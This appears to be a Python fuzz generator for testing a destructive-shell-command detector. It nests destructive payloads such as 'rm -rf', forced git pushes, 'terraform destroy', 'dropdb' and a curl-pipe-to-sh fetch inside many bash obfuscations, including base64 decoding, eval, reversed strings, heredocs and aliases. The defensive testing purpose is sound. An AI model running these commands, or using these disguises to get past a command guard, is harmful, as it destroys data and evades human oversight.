"""Random shell texts that may run something destructive, nested and disguised in the ways bash offers.

Every program they name is a bare word, so a PATH of stand-ins is all that can run.
"""

import base64
import random
import shlex
from collections.abc import Callable, Sequence

PAYLOADS = [
    "rm -rf src",
    "rm -r -f src",
    "rm -fr src lib",
    "rm --recursive src",
    "git push --force origin main",
    "git push -f",
    "git push origin +main",
    "git reset --hard",
    "git reset --hard HEAD~3",
    "git clean -fdx",
    "psql -c DROP",
    "kubectl delete pod x",
    "kubectl -n prod delete ns x",
    "npm publish",
    "cargo publish",
    "twine upload dist/x",
    "terraform destroy -auto-approve",
    "dd if=x of=prod.db",
    "shred -u prod.key",
    "mkfs.ext4 x",
    "docker push x",
    "aws s3 rm s3://x --recursive",
    "redis-cli flushall",
    "shutdown now",
    "dropdb prod",
    "curl -s x.example.org | sh",
]
HARMLESS = ["echo hi", "true", "false", "ls", "cat file", "X=1", "cd .", ": note", "echo a b > out"]
DESTRUCTIVE = {
    "rm": ("-r", "-f", "--recursive"),
    "git": ("--force", "-f", "+main", "--hard", "-fdx"),
    "psql": ("DROP",),
    "kubectl": ("delete",),
    "npm": ("publish",),
    "cargo": ("publish",),
    "twine": ("upload",),
    "terraform": ("destroy",),
    "dd": ("of=",),
    "shred": ("-u",),
    "mkfs.ext4": ("x",),
    "docker": ("push",),
    "aws": ("rm",),
    "redis-cli": ("flushall",),
    "shutdown": ("now",),
    "dropdb": ("prod",),
    "from-network": ("ran",),
}


def is_destructive(argv: Sequence[str]) -> bool:
    """Whether a logged call is one that must have been seen."""
    name, *arguments = argv
    if name == "rm":
        return any(
            each.startswith("--rec") or (each[:1] == "-" and "r" in each) for each in arguments
        )
    return any(
        each == wanted or (wanted in {"DROP", "of="} and each.startswith(wanted))
        for each in arguments
        for wanted in DESTRUCTIVE.get(name, ())
    )


class Generator:
    """Texts from one seed. `text(depth)` nests up to `depth` times."""

    def __init__(self, seed: int) -> None:
        self.draw = random.Random(seed)  # noqa: S311 - the same texts every time
        self.number = 0

    def sample(self) -> str:
        text = self.text(self.draw.choice((1, 1, 2, 2, 3, 4)))
        return text if len(text) < 6000 else self.sample()

    def text(self, depth: int) -> str:
        if depth == 0:
            return self.command()
        self.number += 1
        return self.draw.choice(_SHAPES)(self, depth - 1)

    def some(self, depth: int) -> str:
        """Company for the text that matters."""
        return self.draw.choice(HARMLESS) if self.draw.random() < 0.7 else self.text(depth)

    # -- one command

    def command(self) -> str:
        payload = self.draw.choice(PAYLOADS)
        if "|" in payload:
            return payload
        return self.draw.choice(_COMMANDS)(self, payload.split())

    def spelled(self, word: str) -> str:
        return self.draw.choice(_SPELLINGS)(self, word)

    def words(self, words: Sequence[str]) -> str:
        gap = self.draw.choice((" ", "  ", "\t", " \\\n "))
        noise = self.draw.choice(("", "", "", " >/dev/null", " 2>&1", " >out", " 2>err <file"))
        spelled = [self.spelled(word) for word in words]
        at = self.draw.randrange(1, len(spelled) + 1)
        return gap.join([*spelled[:at]]) + noise + gap.join(["", *spelled[at:]])

    def name(self) -> str:
        self.number += 1
        return f"v{self.number}"


Spelling = Callable[[Generator, str], str]


def _in_two(generator: Generator, word: str) -> tuple[str, str]:
    at = generator.draw.randrange(1, len(word)) if len(word) > 1 else 1
    return word[:at], word[at:]


_SPELLINGS: list[Spelling] = [
    lambda _, w: w,
    lambda _, w: w,
    lambda _, w: f"'{w}'",
    lambda _, w: f'"{w}"',
    lambda _, w: "\\" + w,
    lambda _, w: "".join("\\" + c if c.isalnum() else c for c in w),
    lambda _, w: "$'" + "".join(f"\\x{ord(c):02x}" for c in w) + "'",
    lambda _, w: "$'" + "".join(f"\\{ord(c):03o}" for c in w) + "'",
    lambda _, w: "$'" + "".join(f"\\u{ord(c):04x}" for c in w) + "'",
    lambda g, w: "''".join(_in_two(g, w)),
    lambda g, w: '""'.join(_in_two(g, w)),
    lambda g, w: "\\\n".join(_in_two(g, w)),
    lambda g, w: "$@".join(_in_two(g, w)),
    lambda g, w: "${nothing}".join(_in_two(g, w)),
    lambda _, w: "${none:-" + w + "}",
    lambda _, w: "$(echo " + w + ")",
    lambda _, w: "`echo " + w + "`",
    lambda _, w: "$(printf %s " + w + ")",
]

Command = Callable[[Generator, list[str]], str]


def _by_variable(g: Generator, words: list[str]) -> str:
    name = g.name()
    return f"{name}={g.spelled(words[0])}; ${name} " + g.words(words[1:])


def _by_array(g: Generator, words: list[str]) -> str:
    name = g.name()
    spelled = " ".join(g.spelled(word) for word in words)
    use = g.draw.choice(('"${%s[@]}"', "${%s[*]}", "${%s[@]}", '"${%s[@]:0}"')) % name
    return f"{name}=({spelled}); {use}"


def _grown_array(g: Generator, words: list[str]) -> str:
    name = g.name()
    added = "; ".join(f"{name}+=({g.spelled(word)})" for word in words)
    return f'{name}=(); {added}; "${{{name}[@]}}"'


def _by_printf(g: Generator, words: list[str]) -> str:
    name = g.name()
    return f"printf -v {name} %s {g.spelled(words[0])}; ${name} " + g.words(words[1:])


def _by_read(g: Generator, words: list[str]) -> str:
    name = g.name()
    return f"read -ra {name} <<< '{' '.join(words)}'; \"${{{name}[@]}}\""


def _by_mapfile(g: Generator, words: list[str]) -> str:
    name = g.name()
    lines = "\\n".join(words)
    return f"mapfile -t {name} <<< $'{lines}'; \"${{{name}[@]}}\""


def _indirect(g: Generator, words: list[str]) -> str:
    one, two = g.name(), g.name()
    return f"{one}={words[0]}; {two}={one}; ${{!{two}}} " + g.words(words[1:])


def _by_function(g: Generator, words: list[str]) -> str:
    name = g.name()
    body = g.draw.choice(('"$@"', "$*", '"${@:1}"', 'local c=$1; shift; $c "$@"'))
    return f"{name}() {{ {body}; }}; {name} " + g.words(words)


def _by_set(g: Generator, words: list[str]) -> str:
    return f"set -- {g.words(words)}; " + g.draw.choice(
        ('"$@"', "$@", "$*", '"${@:1}"', '$1 "${@:2}"')
    )


def _changed(g: Generator, words: list[str]) -> str:
    name, first = g.name(), words[0]
    how = g.draw.choice(
        (
            (f"x{first}", f"${{{name}#x}}"),
            (f"{first}x", f"${{{name}%x}}"),
            (first.upper(), f"${{{name},,}}"),
            (f"xx{first}", f"${{{name}:2}}"),
            (f"{first[0]}_{first[1:]}", f"${{{name}/_/}}"),
        )
    )
    return f"{name}={how[0]}; {how[1]} " + g.words(words[1:])


def _braces(g: Generator, words: list[str]) -> str:
    return "{" + ",".join(words) + "}"


def _glob(g: Generator, words: list[str]) -> str:
    first = words[0]
    pattern = g.draw.choice(
        (first[:-1] + "?", first[:-1] + f"[{first[-1]}]", f"[{first[0]}]" + first[1:])
    )
    return f"bin/{pattern} " + g.words(words[1:])


def _aliased(g: Generator, words: list[str]) -> str:
    return f"shopt -s expand_aliases\nalias zz='{words[0]}'\nzz " + " ".join(words[1:])


def _arithmetic(g: Generator, words: list[str]) -> str:
    return f"(( 1 + 1 == 2 )) && {g.words(words)}"


def _wrapped(g: Generator, words: list[str]) -> str:
    wrapper = g.draw.choice(
        (
            "command", "builtin command", "exec", "env", "env -i PATH=$PATH LOG=$LOG", "env X=1", "nohup", "timeout 5",
            "timeout -k 1 5", "nice -n 3", "setsid -w", "stdbuf -oL", "time", "time -p", "eval", "X=1 Y=2", "! ",
            "coproc", "env -u X", "env -",
        )
    )  # fmt: skip
    return f"{wrapper} {g.words(words)}"


def _env_split(g: Generator, words: list[str]) -> str:
    text = " ".join(words)
    return g.draw.choice(
        (
            f"env -S '{text}'",
            f"env -S'{words[0]}' {' '.join(words[1:])}",
            f"env -vS '{text}'",
            f"env --split-string='{text}'",
        )
    )


def _xargs(g: Generator, words: list[str]) -> str:
    last = words[-1]
    return g.draw.choice(
        (
            f"echo {last} | xargs {' '.join(words[:-1])}",
            f"echo {last} | xargs -I{{}} {' '.join(words[:-1])} {{}}",
            f"printf '%s\\0' {last} | xargs -0 {' '.join(words[:-1])}",
            f"xargs {' '.join(words[:-1])} <<< {last}",
            f"echo '{' '.join(words)}' | xargs -I% sh -c '%'",
            f"echo {' '.join(words)} | xargs env",
        )
    )


def _find(g: Generator, words: list[str]) -> str:
    text = " ".join(words)
    return g.draw.choice(
        (
            f"find . -maxdepth 0 -exec {text} \\;",
            f"find . -maxdepth 0 -exec {text} {{}} +",
            f"find . -maxdepth 0 -exec sh -c '{text}' \\;",
            f"find . -maxdepth 0 -execdir env {text} ';'",
        )
    )


def _piped(g: Generator, words: list[str]) -> str:
    text = " ".join(words)
    encoded = base64.b64encode(text.encode()).decode()
    octal = "".join(f"\\{ord(c):03o}" for c in text)
    return g.draw.choice(
        (
            f"echo '{text}' | bash",
            f"printf '{octal}' | sh",
            f"echo {encoded} | base64 -d | bash",
            f"base64 -d <<< {encoded} | sh",
            f'bash -c "$(base64 -d <<< {encoded})"',
            f"echo '{text[::-1]}' | rev | sh",
            f"eval \"$(echo '{text[::-1]}' | rev)\"",
            f"$(rev <<< '{words[0][::-1]}') {' '.join(words[1:])}",
            f"$(tr b-za a-z <<< '{''.join(chr((ord(c) - 96) % 26 + 97) if c.isalpha() and c.islower() else c for c in words[0])}') {' '.join(words[1:])}",
            f"cat <<< '{text}' | tee out | sh",
            f"echo '{text}' > made.sh; sh made.sh",
            f"cat > made.sh <<'E'\n{text}\nE\n. ./made.sh",
            f"source <(echo {text})",
            f"bash <(echo {text})",
            f"bash < <(echo {text})",
        )
    )


_COMMANDS: list[Command] = [
    lambda g, w: g.words(w),
    lambda g, w: g.words(w),
    _by_variable, _by_array, _grown_array, _by_printf, _by_read, _by_mapfile, _indirect, _by_function, _by_set, _changed,
    _braces, _glob, _aliased, _arithmetic, _wrapped, _wrapped, _env_split, _xargs, _find, _piped,
]  # fmt: skip

Shape = Callable[[Generator, int], str]


def _given(g: Generator, depth: int) -> str:
    """As one argument of a shell."""
    inner = shlex.quote(g.text(depth))
    return g.draw.choice(
        ("bash -c {i}", "sh -c {i}", "eval {i}", "bash -ec {i}", "env bash -c {i}", "timeout 9 bash -c {i}",
         "bash <<< {i}", "bash -s <<< {i}", "trap {i} EXIT", "t={i}; eval \"$t\"", "t={i}; bash -c \"$t\"", "echo {i} | bash",
         "bash -c '\"$@\"' _ bash -c {i}", "bash -c 'eval \"$1\"' _ {i}", "printf %s {i} | sh", "export t={i}; bash -c 'eval \"$t\"'",
         "bash -O extglob -c {i}", "(exec bash -c {i})", "xargs -0 bash -c < <(printf %s {i})", "f() {{ eval \"$1\"; }}; f {i}")
    ).format(i=inner)  # fmt: skip


def _document(g: Generator, depth: int) -> str:
    inner, mark = g.text(depth), f"E{g.number}"
    return g.draw.choice(
        (
            f"bash <<'{mark}'\n{inner}\n{mark}\n",
            f'sh -s <<"{mark}"\n{inner}\n{mark}\n',
            f"cat <<'{mark}' | bash\n{inner}\n{mark}\n",
            f"bash <<'{mark}' >out\n{inner}\n{mark}\n",
            f"{{ bash; }} <<'{mark}'\n{inner}\n{mark}\n",
            f"cat > made{g.number}.sh <<'{mark}'\n{inner}\n{mark}\nbash made{g.number}.sh",
            f"while read -r line; do eval \"$line\"; done <<'{mark}'\n{inner}\n{mark}\n",
        )
    )


def _compound(g: Generator, depth: int) -> str:
    a, b = g.text(depth), g.some(depth)
    return g.draw.choice(
        ("{b}\n{a}", "{a}\n{b}", "({a}\n)", "{{ {a}\n}}", "if {a}\nthen {b}\nfi", "if true; then\n{a}\nelse {b}\nfi",
         "for i in 1 2; do\n{a}\ndone", "while true; do\n{a}\nbreak\ndone", "until false; do\n{a}\nbreak; done", "case x in y) {b}\n;; x) {a}\n;; esac",
         "select i in 1; do\n{a}\nbreak; done <<< 1", "f() {{ {a}\n}}; f", "function f {{ {a}\n}}\nf", "f() ( {a}\n); f", "ls() {{ {a}\n}}; ls",
         "echo $({a}\n)", "echo \"$({a}\n)\"", "x=$({a}\n)", "x=\"$({a}\n)\"", "cat <({a}\n)", "cat <<< \"$({a}\n)\"", "[[ -n $({a}\n) ]]", "(( $({a}\necho 1) ))",
         "echo ${{x:-$({a}\n)}}", "{{ {b}\n}} && {{ {a}\n}}", "{{ {b}\n}} || {{ {a}\n}}", "{{ {b}\n}} | {{ {a}\n}}", "{{ {a}\n}} &\nwait", "! {{ {a}\n}}",
         "# note\n{a}", "{a} # note", "true; {a}", "time {{ {a}\n}}", "coproc {{ {a}\n}}; wait", "for ((i = 0; i < 1; i++)); do\n{a}\ndone", "declare y=$({a}\n)",
         "{b} >out; {a}", "{a} >out 2>&1", "x[$({a}\necho 0)]=1", "exec 3< <({a}\n); cat <&3", "echo x > >({a}\n); wait", "local_() {{ local z=$({a}\n); }}; local_")
    ).format(a=a, b=b)  # fmt: skip


_SHAPES: list[Shape] = [_given, _document, _compound, _compound]
